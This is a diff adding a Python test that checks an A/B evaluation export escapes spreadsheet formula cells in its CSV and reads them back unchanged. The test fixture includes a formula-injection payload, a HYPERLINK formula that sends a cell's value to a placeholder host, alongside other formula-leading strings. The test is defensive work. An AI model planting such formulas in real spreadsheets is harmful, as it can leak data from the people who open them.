@@ -158,3 +158,36 @@ def test_import_ab_command_finds_the_key_beside_the_ratings(runs, tmp_path):
     missing = subprocess.run([*cmd[:4], str(elsewhere)], capture_output=True, text=True, env=env)
     assert missing.returncode == 2 and "no ab_key.json beside the ratings" in missing.stderr
     assert "Traceback" not in missing.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"open")', "+1+2", "-3 degrees overnight", "@SUM(A1:A9)",
+            "\tindented answer", "\rcarriage return first", "'=already quoted", "'plain quote", "plain answer"]
+
+
+def test_the_sheet_escapes_formula_cells_and_reads_them_back_exactly(tmp_path):
+    from dataforge.eval.ab import read_sheet, unescape_cell
+
+    for name, suffix in (("base", "b"), ("tuned", "t")):
+        rows = [{"prompt": f"Question {i}: what is the reading?", "prediction": f"{text} ({suffix})" if i % 2 else text,
+                 "reference": FORMULAS[-1 - i]} for i, text in enumerate(FORMULAS)]
+        (tmp_path / f"{name}.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
+        score_predictions(tmp_path / f"{name}.jsonl", None, GenerationScoring(), out=tmp_path / name)
+    out = export_ab(tmp_path / "base", tmp_path / "tuned", tmp_path / "ab", seed=0)
+    with open(out.sheet_csv, encoding="utf-8-sig", newline="") as f:
+        raw = list(csv.DictReader(f))
+    cells = [row[c] for row in raw for c in ("reference", "output_1", "output_2")]
+    assert len(cells) == 3 * len(FORMULAS)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # nothing a spreadsheet would run
+    assert {c for c in cells if c.startswith("'")} >= {"'" + f for f in FORMULAS if f != "plain answer"}
+
+    key = json.loads(out.key.read_text())["items"]
+    preds = {name: {json.loads(line)["prompt"]: json.loads(line)["prediction"]
+                    for line in (tmp_path / f"{name}.jsonl").read_text().splitlines()} for name in ("base", "tuned")}
+    _, rows = read_sheet(out.sheet_csv)
+    for _, row in rows:
+        first = key[row["item"]]["output_1"]
+        second = "base" if first == "tuned" else "tuned"
+        assert row["output_1"] == preds[first][row["prompt"]] and row["output_2"] == preds[second][row["prompt"]]
+    assert [unescape_cell(c) for c in cells] == [row[c] for _, row in rows for c in ("reference", "output_1", "output_2")]
+    filled = _fill(out.sheet_csv, out.key, tmp_path / "carol.csv", lambda item, first: "1")
+    assert import_ab([filled], out.key, seed=0, n_boot=50).overall.n_ratings == len(FORMULAS)
